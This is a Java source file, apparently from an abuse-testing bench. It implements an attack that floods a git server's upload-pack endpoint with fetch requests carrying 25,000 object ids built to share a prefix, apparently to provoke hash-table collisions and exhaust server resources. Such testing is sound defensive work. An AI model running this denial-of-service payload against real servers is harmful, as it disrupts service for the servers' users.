package dev.millrace.bench.abuse;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.HexFormat;
import java.util.Random;

/** Fetches that claim to have many objects whose ids share the words that hash tables of ids use. */
final class CollidingHaves implements Attack {

    private static final int HAVES = 25_000;

    private final Target target;
    private final Answers answers;

    CollidingHaves(Target target, Answers answers) {
        this.target = target;
        this.answers = answers;
    }

    @Override
    public String name() {
        return "haves";
    }

    @Override
    public void round(Random random) throws IOException {
        byte[] body = body(random);
        try (RawCall one = RawCall.open(target.gateway());
                RawCall other = RawCall.open(target.gateway())) {
            for (RawCall call : new RawCall[] {one, other}) {
                call.send("""
                        POST %s HTTP/1.1
                        Host: %s
                        Authorization: %s
                        Git-Protocol: version=2
                        Content-Type: application/x-git-upload-pack-request
                        Content-Length: %d

                        """.replace("\n", "\r\n").formatted(
                        target.git("git-upload-pack"),
                        target.gateway().getAuthority(),
                        target.authorization(),
                        body.length));
                call.send(body, body.length);
            }
            // the second one disconnects at once: its work must end with it
            answers.count("POST git-upload-pack", one.status(10_000));
        }
    }

    private byte[] body(Random random) {
        var body = new ByteArrayOutputStream();
        line(body, "command=fetch");
        line(body, "object-format=sha1");
        body.writeBytes("0001".getBytes(StandardCharsets.US_ASCII));
        line(body, "want " + target.tip() + "\n");
        byte[] id = new byte[20];
        byte[] same = new byte[8];
        random.nextBytes(same);
        for (int have = 0; have < HAVES; have++) {
            random.nextBytes(id);
            System.arraycopy(same, 0, id, 0, same.length);
            line(body, "have " + HexFormat.of().formatHex(id) + "\n");
        }
        body.writeBytes("0000".getBytes(StandardCharsets.US_ASCII));
        return body.toByteArray();
    }

    private static void line(ByteArrayOutputStream body, String text) {
        body.writeBytes("%04x%s".formatted(text.length() + 4, text).getBytes(StandardCharsets.US_ASCII));
    }

    @Override
    public Duration pause() {
        return Duration.ofSeconds(2);
    }
}
